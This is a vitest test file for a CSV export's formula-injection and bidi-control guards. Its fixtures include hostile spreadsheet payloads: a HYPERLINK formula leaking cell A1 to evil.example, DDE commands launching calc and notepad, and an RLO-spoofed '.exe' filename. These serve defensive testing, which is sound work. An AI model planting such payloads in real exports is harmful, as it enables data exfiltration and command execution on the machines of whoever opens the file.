import { describe, expect, it } from 'vitest';
import { careerCsvRow, contactCsvRow, neutraliseCell } from './csv';

/**
 * The CSV family of the hostile-input suite: every formula prefix a spreadsheet evaluates, ASCII and full-width, bare
 * and after the leading whitespace spreadsheets skip, in every exported column of both exports; and cells that look
 * like phone numbers, the one form a leading "+" is exported without the guard, but hide a formula.
 */

const PREFIXES = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'];
const LEADS = ['', ' ', '   ', '\u00a0', '\u3000', '\n', ' \u2009', '\ufeff'];
const PAYLOADS = ['HYPERLINK("http://evil.example/?"&A1,"Click")', 'cmd|\' /C calc\'!A0', "SUM(1+1)*cmd|' /C notepad'!A1", '1+1'];
const CONTROL_STARTS = ['\t=1+1', '\r=1+1', '\tplain', '\rplain'];

/** "+" and digits, then an operator, a reference, a function, another kind of digit or space, or too few/many digits. */
const PHONE_LIKE = [
  '+1+1',
  '+A1',
  '+SUM(A1:A2)',
  '+ 1',
  '+1-1',
  '+91-98140-22750',
  '+91 98140 22750+1',
  '+91 98140 22750-A1',
  '+91 98140 22750*2',
  '+91 98140 22750/2',
  '+91 98140 22750^2',
  '+91 98140 22750%',
  '+91 98140 22750&A1',
  '+91 98140 22750 A1',
  '+91 98140 22750,A1',
  '+91 98140 22750:A1',
  '+91 98140 22750!A1',
  '+91 98140 22750=1',
  '+(91) 98140 22750',
  '+91 (98140)-22750',
  '+91 98140 22750\n=1+1',
  '+91 98140 22750\t',
  '+91 98140 22750\r=1',
  '+1.5E+10',
  '+91\u00a098140\u00a022750',
  '+９１ ９８１４０ ２２７５０',
  '+٩١ ٩٨١٤٠ ٢٢٧٥٠',
  '+123',
  '+1234567890123456',
  `+1${' '.repeat(30)}234567`,
  ' +91 98140 22750',
  '＋91 98140 22750',
  '=+91 98140 22750',
  '-91 98140 22750',
  '@91 98140 22750',
];

const HOSTILE = [
  ...PREFIXES.flatMap((prefix) => LEADS.flatMap((lead) => PAYLOADS.map((payload) => `${lead}${prefix}${payload}`))),
  ...CONTROL_STARTS,
  ...PHONE_LIKE,
];
const BENIGN = ['Asha Verma', 'asha@example.com', 'a=b', 'Steel - galvanised', 'C++ developer', '2026-03-05 08:15:00', '', ' leading text'];
const PHONES = ['+91 98140 22750', '+1 406 555 0147', '+44 (0)20 7946 0958', '+4915122334455', '+49 151 2233 445 ', '+1234567'];

describe('CSV export of hostile cells', () => {
  it(`neutralises all ${HOSTILE.length} formula cells (ASCII, full-width, after whitespace, tab and CR, phone-like)`, () => {
    const unsafe = HOSTILE.filter((cell) => !neutraliseCell(cell).startsWith("'"));
    expect(unsafe).toEqual([]);
    // The text itself is kept after the quote: nothing typed is lost.
    for (const cell of HOSTILE) expect(neutraliseCell(cell)).toBe(`'${cell}`);
  });

  it('leaves ordinary text and phone numbers unchanged', () => {
    for (const cell of [...BENIGN, ...PHONES]) expect(neutraliseCell(cell)).toBe(cell);
  });

  it('neutralises every column of both exports, also after a label is put in place of a coded value', () => {
    const cell = ' ＝HYPERLINK("http://evil.example","x")';
    const contact = contactCsvRow(
      { id: 1, name: cell, email: cell, phone: cell, company: cell, subject: cell, message: cell, status: 'new', created_at: cell } as never,
      'Asia/Kolkata',
    );
    const career = careerCsvRow(
      {
        id: 1, name: cell, email: cell, phone: cell, position: cell, experience: cell, education: '', skills: '', cover_letter: cell,
        resume_filename: cell, resume_file: cell, status: 'new', created_at: cell,
      } as never,
      'Asia/Kolkata',
    );
    const guarded = `'${cell}`;
    // The subject's label drops the leading space ("quote-request" -> "Quote Request"); the guard still comes first.
    expect(contact).toEqual([guarded, guarded, guarded, `'${cell.trim()}`, guarded, 'new', guarded]);
    expect(career).toEqual([guarded, guarded, guarded, guarded, guarded, guarded, 'new', guarded]);
  });
});

/** Bidi embedding, override and isolate controls (LRE, RLE, PDF, LRO, RLO, LRI, RLI, FSI, PDI). */
const BIDI_CONTROLS = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
const BIDI_CELLS = BIDI_CONTROLS.flatMap((control) => [
  { cell: `${control}Asha Verma`, exported: 'Asha Verma' },
  { cell: `Asha ${control}Verma`, exported: 'Asha Verma' },
  { cell: `cv${control}fdp.exe`, exported: 'cvfdp.exe' },
  { cell: `${control}=HYPERLINK("http://evil.example","x")`, exported: `'=HYPERLINK("http://evil.example","x")` },
]);
/** Word joiners (U+2060) ahead of a formula sign or a name. */
const WORD_JOINER_CELLS = [
  { cell: '\u2060=1+1', exported: "'=1+1" },
  { cell: '\u2060\u2060+SUM(A1:A2)', exported: "'+SUM(A1:A2)" },
  { cell: ' \u2060@cmd', exported: "' @cmd" },
  { cell: '\u2060Asha', exported: 'Asha' },
];

describe('CSV export of bidi control characters', () => {
  it(`removes them from all ${BIDI_CELLS.length + WORD_JOINER_CELLS.length} cells, so no cell reorders itself or its line`, () => {
    for (const { cell, exported } of [...BIDI_CELLS, ...WORD_JOINER_CELLS]) expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(exported);
  });

  it('removes them from every column of both exports, Arabic and Hebrew text kept as typed', () => {
    const name = '\u202eأحمد\u202c שלום';
    const contact = contactCsvRow(
      { id: 1, name, email: 'a@example.com', phone: '+971 4 555 0147\u2069', company: '', subject: 'general', message: `\u2067${name}`, status: 'new', created_at: '2026-01-15 09:00:00' } as never,
      'UTC',
    );
    const career = careerCsvRow(
      {
        id: 1, name, email: 'a@example.com', phone: '+971 4 555 0147', position: 'Welder\u202d', experience: '1-3', education: '', skills: '', cover_letter: '',
        resume_filename: 'cv\u202efdp.exe', resume_file: 'x.pdf', status: 'new', created_at: '2026-01-15 09:00:00',
      } as never,
      'UTC',
    );
    for (const cell of [...contact, ...career]) expect(cell).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(contact[0]).toBe('أحمد שלום');
    expect(contact[2]).toBe('+971 4 555 0147');
    expect(career[5]).toBe('cvfdp.exe');
  });
});
